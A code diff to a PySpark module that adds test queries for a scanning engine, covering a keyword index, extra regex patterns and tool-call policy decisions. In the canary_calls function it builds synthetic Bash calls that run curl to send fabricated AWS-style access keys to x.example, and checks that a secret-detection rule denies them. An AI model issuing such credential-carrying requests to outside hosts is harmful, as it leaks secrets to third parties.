@@ -10,7 +10,7 @@ from pyspark.sql import functions as F
 
 from .functions import text as T
 from .functions import versions
-from .operators import cards, crawlers, engine, keywords, policy, reports, scan, toolcalls
+from .operators import cards, crawlers, engine, keywords, policy, reports, scan, toolcalls, word_index
 from .plans import patterns as P
 from .plans import rules as R
 from .plans.views import register_engine_views
@@ -456,6 +456,14 @@ def keyword_gate(spark, sf_dir):
     return cards.clean_corpus_hits(_read(spark, sf_dir, "documents").join(clean, "doc_id"), "text", _KEYWORDS)
 
 
+@_register(SQL["keyword_gate"].replace("k WHERE regexp_matches", "k WHERE keyword <> '@' AND regexp_matches"))
+def keyword_index(spark, sf_dir):
+    """keyword_gate by looking keywords up in an index of the clean texts; one without a letter or digit cannot be looked up."""
+    clean = _read(spark, sf_dir, "labels").where("toxic = 0 and quality = 1").select("doc_id")
+    index = word_index.build_index(_read(spark, sf_dir, "documents").join(clean, "doc_id"), "text", "doc_id")
+    return word_index.keyword_docs(index, [k for k in _KEYWORDS if k != "@"])
+
+
 @_register("""SELECT CASE WHEN item_id % 9 = 0 THEN 'bad ' || item_id ELSE 'TG-' || item_id END AS id FROM (SELECT item_id, string_split(text, ' ') AS w, text FROM benchmark WHERE item_id % 5 = 1)
 WHERE contains(lower(array_to_string(list_slice(w, 1, 4), ' ')), 'er') OR contains('length-' || (length(text) // 100), 'er') OR len(list_filter(list_slice(w, 1, 3), lambda k: contains(lower(k), 'er'))) > 0""")
 def pattern_search(spark, sf_dir):
@@ -571,6 +579,21 @@ def payload_decisions(spark, sf_dir):
     return toolcalls.decide_payloads(calls, allowed_hosts=["safe.example.com"]).select("call_id", "action", "rule_id", "lane", "detail")
 
 
+_AWS = next(name for name, rx in R.SECRETS if "AKIA" in rx)
+_KEY_OF = "'AKI' || 'A' || upper(substr(md5({}), 1, 16))"
+
+
+@_register(f"""WITH c AS (SELECT c_custkey AS call_id, {_KEY_OF.format('c_name')} AS key FROM customer), d AS (SELECT call_id, key, call_id % 3 = 1 AND NOT regexp_matches(key, {_q(R.PLACEHOLDERS)}) AS leaks FROM c)
+SELECT call_id, CASE WHEN leaks THEN 'deny' ELSE 'defer' END AS action, CASE WHEN leaks THEN 'secret:{_AWS}' ELSE 'clean' END AS rule_id, CASE WHEN leaks THEN substr(sha256(key), 1, 12) || '+0' ELSE '' END AS detail FROM d""")
+def canary_calls(spark, sf_dir):
+    """Calls that send a key: a published canary passes, others are denied."""
+    kind = F.col("c_custkey") % 3
+    key = F.when(kind == 0, toolcalls.PUBLIC_CANARIES[0]).when(kind == 1, F.expr(_KEY_OF.format("cast(c_name AS binary)"))).otherwise("none")
+    given = F.create_map(F.lit("command"), F.concat(F.lit("curl -H "), key, F.lit(" https://x.example")))
+    calls = _read(spark, sf_dir, "customer").select(F.col("c_custkey").alias("call_id"), F.lit("Bash").alias("tool_name"), given.alias("tool_input"))
+    return toolcalls.decide(calls).select("call_id", "action", "rule_id", F.coalesce("detail", F.lit("")).alias("detail"))
+
+
 @_register("SELECT event_id, sha256(replace(props, ' ', '')) AS sha FROM events")
 def descriptor_hash(spark, sf_dir):
     return _read(spark, sf_dir, "events").select("event_id", toolcalls.descriptor_sha(F.col("props")).alias("sha"))
@@ -795,6 +818,15 @@ def table_regexes(spark, sf_dir):
     return _table_findings(_regex_table(spark, sf_dir), _talking(spark, sf_dir))
 
 
+@_register(f"SELECT id, severity, count(*) AS n FROM ({_table_regexes_sql(f'SELECT doc_id, text, {_TALK_SQL} AS channel FROM documents')}) WHERE id IS NOT NULL GROUP BY ALL")
+def extra_patterns(spark, sf_dir):
+    """Findings of an engine of which every other pattern is the user's own."""
+    made = _regex_table(spark, sf_dir)
+    own = F.crc32(F.col("id").cast("binary")) % 2 == 0
+    found = engine.Engine(made.where(~own), extra=made.where(own), mechanisms=False).scan(_talking(spark, sf_dir), channel=F.col("channel"))
+    return found.select(F.explode_outer("findings").alias("f")).where("f is not null").groupBy("f.id", "f.severity").agg(F.count("*").alias("n"))
+
+
 @_register(_table_regexes_sql(f"SELECT doc_id, text, {_TALK_SQL} AS channel FROM documents", wide=True))
 def wide_table_regexes(spark, sf_dir):
     """A table of hundreds of regexes, of which a text is held against those alone whose pieces it holds."""
